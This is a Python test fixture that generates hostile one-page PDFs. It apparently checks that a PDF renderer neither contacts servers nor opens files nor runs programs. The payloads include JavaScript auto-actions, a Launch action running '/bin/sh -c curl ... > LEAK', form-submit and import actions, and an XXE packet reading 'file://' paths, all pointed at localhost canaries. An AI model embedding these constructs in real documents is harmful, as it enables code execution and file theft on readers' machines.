"""PDFs of one page that want something done: a server called, a file opened, a program run (B11).

Each shows CANARY. What must be neither asked for nor read holds LEAK.
"""

from __future__ import annotations

from hostile_builders import SHOWN, pdf

NOTHING = "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 0 >>\nstream\n\nendstream"


def acting_pdfs(port: int, secret: str = "") -> dict[str, bytes]:
    """Write all of them, each pointing at a port of this machine, some at a file."""
    url = f"http://127.0.0.1:{port}/LEAK"
    file = f"<< /Type /Filespec /FS /URL /F ({url}) >>"
    acting = {name: _triggered(action) for name, action in _actions(url, file, secret).items()}
    return acting | _holding(url, file, secret)


def _actions(url: str, file: str, secret: str) -> dict[str, str]:
    script = f"app.launchURL\\('{url}'\\); this.submitForm\\('{url}'\\)"
    then = f"/Next << /S /URI /URI ({url}) >>"
    return {
        "script": f"<< /S /JavaScript /JS ({script}) >>",
        "program": f"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c 'curl {url} > LEAK') >> >>",
        "file": f"<< /S /Launch /F ({secret}) {then} >>",
        "address": f"<< /S /URI /URI ({url}) >>",
        "form": f"<< /S /SubmitForm /F {file} /Flags 4 >>",
        "data": f"<< /S /ImportData /F {file} >>",
        "other PDF": f"<< /S /GoToR /F {file} /D [0 /Fit] >>",
        "local PDF": f"<< /S /GoToR /F (file://{secret}) /D [0 /Fit] {then} >>",
        "embedded PDF": f"<< /S /GoToE /F {file} /D [0 /Fit] /T << /R /C /N (LEAK) >> >>",
        "sound": f"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D {file} >> >> >>",
        "thread": f"<< /S /Thread /F {file} /D 0 >>",
    }


def _triggered(action: str) -> bytes:
    """Have an action done as the file is opened, its page shown, closed or pressed."""
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A {action} /AA << /PV {action} >> >>"
    return _page(
        f"/OpenAction {action} /AA << /WC {action} >> /Names << /JavaScript << /Names [(a) {action}] >> >>",
        f"/AA << /O {action} /C {action} >> /Annots [{link}]",
    )


def _holding(url: str, file: str, secret: str) -> dict[str, bytes]:
    """Write those that hold another file, or draw what lies elsewhere; it is object 6."""
    packet = (
        f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY % d SYSTEM '{url}'> %d; "
        f"<!ENTITY e SYSTEM 'file://{secret}'>]><x xmlns:xdp='http://ns.adobe.com/xdp/'>&e; LEAK</x>"
    )
    embedded = f"<< /Type /Filespec /F (a.txt) /UF (a.txt) /Desc ({url}) /EF << /F 6 0 R >> >>"
    attached = f"/Names << /EmbeddedFiles << /Names [(a.txt) {embedded}] >> >> /AF [{embedded}]"
    picture = "/Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8"
    drawing = f"/Subtype /Form /BBox [0 0 600 800] /Ref << /F {file} /Page 0 >>"
    away = f"/Type /EmbeddedFile /F {file} /FFilter /FlateDecode"
    form = "/NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >>"
    return {
        "attachment": _page(attached, held=_stream(f"/Type /EmbeddedFile /Where ({url})", "LEAK")),
        "attachment elsewhere": _page(attached, held=_stream(away)),
        "XFA": _page(form, held=_stream("", packet)),
        "picture elsewhere": _page(held=_stream(f"/Type /XObject {picture} /F {file}")),
        "drawing elsewhere": _page(held=_stream(f"/Type /XObject {drawing}")),
        "metadata": _page("/Metadata 6 0 R", held=_stream("/Type /Metadata /Subtype /XML", packet)),
    }


def _page(catalog: str = "", page: str = "", held: str = NOTHING) -> bytes:
    """Write a PDF with more in its catalog and its page; object 6 is drawn, where it can be."""
    shown = SHOWN.decode() + "/X Do"
    return pdf(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] {page} /Contents 4 0 R "
        "/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>",
        _stream("", shown),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        held,
    )


def _stream(keys: str, content: str = "") -> str:
    return f"<< {keys} /Length {len(content)} >>\nstream\n{content}\nendstream"
